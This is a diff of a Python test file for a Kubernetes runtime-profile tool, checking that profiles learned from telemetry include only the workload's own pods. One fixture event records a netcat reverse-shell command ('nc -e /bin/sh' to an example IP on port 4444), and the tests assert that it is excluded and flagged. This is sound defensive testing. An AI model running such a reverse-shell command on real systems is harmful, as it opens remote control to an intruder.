@@ -14,6 +14,26 @@ WRAPPER = os.environ.get("PG_TEST_WRAPPER", "").split()
 ROOT = os.environ.get("SOURCE_ROOT", os.path.join(os.path.dirname(__file__), "..", ".."))
 DATA = os.path.join(ROOT, "tests", "data", "telemetry")
 POD = os.path.join(ROOT, "examples", "manifests", "good", "payments-pod.yaml")
+DIGEST = "sha256:682a1c47a1d34030b53d929d93f628b8e80e292b915f8c0e8d8fb51b3b7be968"
+# the Deployment whose pods are payments-api-<pod-template-hash>-<suffix>
+DEPLOYMENT = f"""apiVersion: apps/v1
+kind: Deployment
+metadata: {{name: payments-api, namespace: payments}}
+spec:
+  selector: {{matchLabels: {{app: payments-api}}}}
+  template:
+    metadata: {{labels: {{app: payments-api}}}}
+    spec:
+      serviceAccountName: payments-api
+      automountServiceAccountToken: false
+      securityContext: {{runAsNonRoot: true, runAsUser: 10001}}
+      containers:
+        - name: api
+          image: registry.example.com/payments/api@{DIGEST}
+          securityContext: {{allowPrivilegeEscalation: false, capabilities: {{drop: [ALL]}}}}
+"""
+OWN = "payments-api-7d9fbc6d48-x2kqz"
+OWN_CID = "containerd://4f2a6c8e0b1d3f5a7c9e1b3d5f7a9c1e3b5d7f9a1c3e5b7d9f1a3c5e7b9d1f3a"
 
 
 def run(*args, stdin=None):
@@ -25,7 +45,7 @@ def native(kind, **kw):
     ev = {"kind": kind, "time": "2026-11-22T11:00:00Z", "node": "node-a",
           "pod": {"namespace": "payments", "name": "payments-api-7d9f-x2"}, "container": "api"}
     ev.update(kw)
-    return json.dumps(ev)
+    return json.dumps({k: v for k, v in ev.items() if v is not None})
 
 
 class Learn(unittest.TestCase):
@@ -38,6 +58,12 @@ class Learn(unittest.TestCase):
         audit["items"] = [i for i in audit["items"] if "authentication.k8s.io/stale-token" not in i.get("annotations", {})]
         self.audit = self.path("audit.json", json.dumps(audit))
         self.events = [os.path.join(DATA, "native.jsonl"), self.audit, os.path.join(DATA, "falco.json")]
+        # The captures in tests/data come from the pod payments-api-7d9f-x2:
+        # its manifest is the example pod under that name.
+        with open(POD) as f:
+            text = f.read()
+        self.assertIn("\n  name: payments-api\n", text)
+        self.pod = self.path("pod.yaml", text.replace("\n  name: payments-api\n", "\n  name: payments-api-7d9f-x2\n", 1))
 
     def tearDown(self):
         self.tmp.cleanup()
@@ -48,8 +74,8 @@ class Learn(unittest.TestCase):
             f.write(text)
         return p
 
-    def learn(self, *extra, events=None):
-        args = ["learn", "--pod", POD, "--name", "payments-api", "--namespace", "payments", "--mode", "Enforce"]
+    def learn(self, *extra, events=None, pod=None):
+        args = ["learn", "--pod", pod or self.pod, "--name", "payments-api", "--namespace", "payments", "--mode", "Enforce"]
         for e in events or self.events:
             args += ["-f", e]
         return run(*args, *extra)
@@ -163,28 +189,42 @@ class Learn(unittest.TestCase):
         self.assertIn("1 malformed events record skipped", err)
         self.assertIn("      - /app/server\n", profile)
 
-    def test_without_pod_and_other_namespace(self):
+    def test_other_namespace(self):
         ev = self.path("x.jsonl", native("exec", exe="/app/server") + "\n" +
-                       native("exec", exe="/bin/evil", pod={"namespace": "other", "name": "x"}) + "\n")
-        rc, profile, err = run("learn", "-f", ev, "--name", "svc", "--namespace", "payments")
+                       native("exec", exe="/bin/evil", pod={"namespace": "other", "name": "payments-api-7d9f-x2"}) + "\n")
+        rc, profile, err = run("learn", "-f", ev, "--pod", self.pod, "--name", "svc", "--namespace", "payments")
         self.assertEqual(rc, 0, err)
-        self.assertIn("# no pod labels known: check this selector", profile)
         self.assertIn("  mode: Audit\n", profile)
+        self.assertIn("      - /app/server\n", profile)
         self.assertNotIn("/bin/evil", profile)
-        self.assertIn("1 skipped", err)
-        # and it is a valid profile
+        self.assertIn("1 events used, 1 skipped", err)
         prof = self.path("p.yaml", profile)
         rc, out, err = run("check", "-p", prof, "-f", POD)
         self.assertEqual(rc, 0, out + err)
+
+    def test_refused_without_a_workload(self):
+        # Without a manifest nothing says whose events are the workload's:
+        # learning from every pod of the namespace is what let another
+        # pod's reverse shell into a profile.  Refused, and said why.
+        ev = self.path("x.jsonl", native("exec", exe="/app/server") + "\n")
+        rc, out, err = run("learn", "-f", ev, "--name", "svc", "--namespace", "payments")
+        self.assertEqual((rc, out), (2, ""), err)
+        self.assertIn("--pod MANIFEST is required", err)
+        rc, out, err = run("learn", "--help")
+        self.assertEqual(rc, 0, err)
+        self.assertIn("Only events of the workload's own pods count", out + err)
 
     def test_usage(self):
         rc, _, err = run("learn", "--name", "x")
         self.assertEqual(rc, 2)
         self.assertIn("need -f EVENTS", err)
-        rc, _, err = run("learn", "-f", "/nonexistent", "--name", "x", "--namespace", "y")
+        rc, _, err = run("learn", "-f", "/nonexistent", "--pod", self.pod, "--name", "x", "--namespace", "payments")
         self.assertEqual(rc, 2)
-        rc, _, err = run("learn", "-f", "-", "--name", "x", "--namespace", "y", "--format", "syslog", stdin="")
+        self.assertIn("/nonexistent: No such file", err)
+        rc, _, err = run("learn", "-f", "-", "--pod", self.pod, "--name", "x", "--namespace", "payments",
+                         "--format", "syslog", stdin="")
         self.assertEqual(rc, 2)
+        self.assertIn("--format must be", err)
         # what would make the profile's metadata invalid is refused up front
         ev = self.path("x.jsonl", native("exec", exe="/app/server") + "\n")
         for args, want in ((["--name", "x", "--namespace", "auditID"], '--namespace "auditID" is not a valid namespace name'),
@@ -209,11 +249,155 @@ class Learn(unittest.TestCase):
         # With no usable label, the fallback selector is a valid label value
         # even for a name longer than one.
         name = "a" * 60 + ".b" * 10
-        rc, profile, err = run("learn", "-f", ev, "--name", name, "--namespace", "payments")
+        bare = self.path("bare.yaml", "apiVersion: v1\nkind: Pod\nmetadata: {name: payments-api-7d9f-x2, namespace: payments}\n"
+                         "spec: {containers: [{name: c, image: 'r.io/a@sha256:" + "a" * 64 + "'}]}\n")
+        rc, profile, err = run("learn", "-f", ev, "--pod", bare, "--name", name, "--namespace", "payments")
         self.assertEqual(rc, 0, err)
         self.assertIn("      app: " + "a" * 60 + ".b\n", profile)
         rc, out, err = run("check", "-p", self.path("q.yaml", profile), "-f", POD)
         self.assertEqual(rc, 0, out + err)
+
+    # ---- only the workload's own pods (SPEC §6) -------------------------------
+
+    def capture(self):
+        """The workload's pod (a Deployment's), another pod of the namespace
+        running a reverse shell, a Deployment whose name starts like the
+        workload's, and container-ID-only events: one of the workload's own
+        container (its short ID), one of a container on another node."""
+        return self.path("mixed.jsonl", "\n".join([
+            native("exec", exe="/app/server", pod={"namespace": "payments", "name": OWN, "uid": "u-own"},
+                   containerID=OWN_CID),
+            native("connect", daddr="10.96.14.2", dport=5432, protocol="tcp",
+                   pod={"namespace": "payments", "name": OWN}),
+            native("exec", exe="/usr/bin/nc", args=["-e", "/bin/sh", "198.51.100.7", "4444"],
+                   pod={"namespace": "payments", "name": "payments-worker-5c8d7f9b6d-q7w2m"}),
+            native("connect", daddr="198.51.100.7", dport=4444, protocol="tcp",
+                   pod={"namespace": "payments", "name": "payments-worker-5c8d7f9b6d-q7w2m"}),
+            native("exec", exe="/bin/bash", pod={"namespace": "payments", "name": "payments-api-admin-6b7c8d9f5-zzxx2"}),
+            native("exec", exe="/usr/bin/curl", pod=None, node="node-a", containerID=OWN_CID[len("containerd://"):][:12]),
+            native("connect", daddr="203.0.113.50", dport=9001, protocol="tcp", pod=None, node="node-b",
+                   containerID="containerd://" + "e" * 64),
+        ]) + "\n")
+
+    def learn_deployment(self):
+        rc, profile, err = self.learn(events=[self.capture()], pod=self.path("deploy.yaml", DEPLOYMENT))
+        self.assertEqual(rc, 0, err)
+        return profile, err
+
+    def test_other_pods_reverse_shell_is_not_learned(self):
+        profile, _ = self.learn_deployment()
+        self.assertIn("      - /app/server\n", profile)
+        self.assertIn('      - cidr: "10.96.14.2/32"\n        ports: [5432]\n', profile)
+        self.assertNotIn("/usr/bin/nc", profile)
+        self.assertNotIn("198.51.100.7", profile)
+        self.assertNotIn("/bin/bash", profile)        # payments-api-admin is another Deployment
+        # and the profile learned flags the reverse shell
+        prof = self.path("learned.yaml", profile)
+        shell = self.path("shell.jsonl", native("exec", exe="/usr/bin/nc", pod={"namespace": "payments", "name": "payments-api-7d9f-x2"}) + "\n")
+        rc, out, err = run("check", "-p", prof, "-f", self.pod, "--events", shell)
+        self.assertEqual(rc, 1, out + err)
+        self.assertIn('exec "/usr/bin/nc" not allowed', out)
+
+    def test_container_id_only_counts_when_tied(self):
+        profile, _ = self.learn_deployment()
+        # the short ID of a container an own pod's event named: counted
+        self.assertIn("      - /usr/bin/curl\n", profile)
+        # a container ID no event of the workload named, from another node: not
+        self.assertNotIn("203.0.113.50", profile)
+        # a Pod manifest's status ties its containers' IDs
+        pod = self.path("own-pod.yaml", "apiVersion: v1\nkind: Pod\nmetadata: {name: p-0, namespace: payments, labels: {app: p}}\n"
+                        "spec: {containers: [{name: c, image: 'r.io/a@sha256:" + "a" * 64 + "'}]}\n"
+                        "status: {containerStatuses: [{name: c, containerID: '" + OWN_CID + "'}]}\n")
+        ev = self.path("cid.jsonl", native("exec", exe="/usr/bin/tini", pod=None, containerID=OWN_CID) + "\n" +
+                       native("exec", exe="/usr/bin/nc", pod=None, containerID="containerd://" + "e" * 64) + "\n")
+        rc, profile, err = self.learn(events=[ev], pod=pod)
+        self.assertEqual(rc, 0, err)
+        self.assertIn("      - /usr/bin/tini\n", profile)
+        self.assertNotIn("/usr/bin/nc", profile)
+        self.assertIn("# skipped: 0 events of other pods, 1 event not tied to this workload\n", profile)
+
+    def test_header_counts_what_was_skipped(self):
+        profile, err = self.learn_deployment()
+        self.assertIn("# skipped: 3 events of other pods, 1 event not tied to this workload\n", profile)
+        self.assertIn("# workload: Deployment payments/payments-api: its pods payments-api-<hash>-<suffix>", profile)
+        self.assertIn("3 events used, 4 skipped", err)
+
+    def test_pod_names_each_kind_makes(self):
+        # Whose pods a manifest names, kind by kind (what the controllers
+        # name them); near misses are other workloads'.
+        tmpl = ("  template:\n    metadata: {labels: {app: w}}\n"
+                "    spec: {containers: [{name: c, image: 'r.io/a@sha256:" + "a" * 64 + "'}]}\n")
+        cases = [
+            ("apps/v1", "Deployment", "web", ["web-7d9fbc6d48-x2kqz", "web-5c8d7-q7w2m"],
+             ["web-x2kqz", "web-7d9fbc6d48-x2kq", "web-7d9fbc6d48-x2kqa", "web-db-0", "webx-7d9fbc6d48-x2kqz",
+              "web-7d9fbc6d48x-x2kqz-q7w2m", "web-7d9fbc6d48-x2kqz-q7w2m"]),
+            ("apps/v1", "StatefulSet", "db", ["db-0", "db-12"], ["db-01", "db-x", "db-0-1", "db-", "dbb-0"]),
+            ("apps/v1", "DaemonSet", "agent", ["agent-x2kqz"], ["agent-7d9fbc6d48-x2kqz", "agent-x2kq", "agent-0"]),
+            ("batch/v1", "Job", "migrate", ["migrate-q7w2m"], ["migrate-q7w2", "migrate-db-q7w2m"]),
+            ("batch/v1", "CronJob", "backup", ["backup-29400000-q7w2m"], ["backup-q7w2m", "backup-2940x-q7w2m"]),
+            ("apps/v1", "ReplicaSet", "rs", ["rs-x2kqz"], ["rs-7d9fbc6d48-x2kqz"]),
+        ]
+        for api, kind, name, own, foreign in cases:
+            with self.subTest(kind=kind):
+                spec = tmpl if kind != "CronJob" else "  schedule: '@daily'\n  jobTemplate:\n    spec:\n" + \
+                    "".join("    " + l + "\n" for l in tmpl.splitlines())
+                if kind in ("Deployment", "StatefulSet", "DaemonSet", "ReplicaSet"):
+                    spec = "  selector: {matchLabels: {app: w}}\n" + spec
+                m = self.path(kind + ".yaml", f"apiVersion: {api}\nkind: {kind}\nmetadata: {{name: {name}, namespace: payments}}\nspec:\n{spec}")
+                lines = [native("exec", exe=f"/own/{i}", pod={"namespace": "payments", "name": n}) for i, n in enumerate(own)]
+                lines += [native("exec", exe=f"/foreign/{i}", pod={"namespace": "payments", "name": n}) for i, n in enumerate(foreign)]
+                rc, profile, err = self.learn(events=[self.path(kind + ".jsonl", "\n".join(lines) + "\n")], pod=m)
+                self.assertEqual(rc, 0, err)
+                for i in range(len(own)):
+                    self.assertIn(f"      - /own/{i}\n", profile)
+                self.assertNotIn("/foreign/", profile)
+                self.assertIn(f"# skipped: {len(foreign)} event{'s' if len(foreign) > 1 else ''} of other pods", profile)
+
+    def test_selector_picks_the_pods_of_a_list(self):
+        # kubectl get pods -o yaml: the pods --selector matches are the
+        # workload's, by name, UID and the container IDs of their status.
+        def pod(name, app, uid, cid):
+            return {"apiVersion": "v1", "kind": "Pod",
+                    "metadata": {"name": name, "namespace": "payments", "uid": uid, "labels": {"app": app, "pod-template-hash": "7d9fbc6d48"}},
+                    "spec": {"serviceAccountName": "api", "containers": [{"name": "c", "image": "r.io/api@sha256:" + "a" * 64}]},
+                    "status": {"containerStatuses": [{"name": "c", "containerID": "containerd://" + cid * 64}]}}
+        pods = self.path("pods.json", json.dumps({"apiVersion": "v1", "kind": "List", "items": [
+            pod("batch-0", "batch", "u-batch", "b"), pod("api-one", "api", "u-1", "c"), pod("api-two", "api", "u-2", "d")]}))
+        ev = self.path("sel.jsonl", "\n".join([
+            native("exec", exe="/app/one", pod={"namespace": "payments", "name": "api-one"}),
+            native("exec", exe="/app/two", pod={"namespace": "payments", "name": "api-two"}),
+            native("exec", exe="/usr/bin/tini", pod=None, containerID="containerd://" + "d" * 64),
+            native("exec", exe="/usr/bin/uid", pod={"uid": "u-1"}),
+            native("exec", exe="/usr/bin/nc", pod={"namespace": "payments", "name": "batch-0"}),
+            native("exec", exe="/usr/bin/nc", pod=None, containerID="containerd://" + "b" * 64),
+        ]) + "\n")
+        rc, profile, err = run("learn", "-f", ev, "--pod", pods, "--selector", "app=api", "--name", "api", "--namespace", "payments")
+        self.assertEqual(rc, 0, err)
+        for exe in ("/app/one", "/app/two", "/usr/bin/tini", "/usr/bin/uid"):
+            self.assertIn(f"      - {exe}\n", profile)
+        self.assertNotIn("/usr/bin/nc", profile)
+        self.assertIn("  selector:\n    matchLabels:\n      app: api\n", profile)
+        self.assertIn("# skipped: 1 event of other pods, 1 event not tied to this workload\n", profile)
+        self.assertIn("# workload: 2 objects of ", profile)
+        self.assertIn("matching app=api", profile)
+        self.assertNotIn("pod-template-hash", profile)   # --selector is the selector, as given
+        rc, out, err = run("check", "-p", self.path("p.yaml", profile), "-f", pods)
+        self.assertEqual(rc, 0, out + err)
+
+    def test_selector_usage(self):
+        ev = self.path("x.jsonl", native("exec", exe="/app/server") + "\n")
+        for args, want in ((["--selector", "app=payments-api"], "--pod MANIFEST is required"),
+                           (["--pod", self.pod, "--selector", "app"], '--selector "app": not KEY=VALUE[,KEY=VALUE...]'),
+                           (["--pod", self.pod, "--selector", "app=a b"], '--selector "app=a b": not KEY=VALUE[,KEY=VALUE...]'),
+                           (["--pod", self.pod, "--selector", "app=nope"], "no Pod or pod template whose labels match --selector app=nope")):
+            rc, out, err = run("learn", "-f", ev, "--name", "x", "--namespace", "payments", *args)
+            self.assertEqual((rc, out), (2, ""), err)
+            self.assertIn(want, err)
+
+    def test_manifest_in_another_namespace(self):
+        rc, out, err = run("learn", "-f", os.path.join(DATA, "native.jsonl"), "--pod", self.pod, "--name", "x", "--namespace", "shop")
+        self.assertEqual((rc, out), (2, ""), err)
+        self.assertIn("is in namespace payments, not shop", err)
 
 
 if __name__ == "__main__":
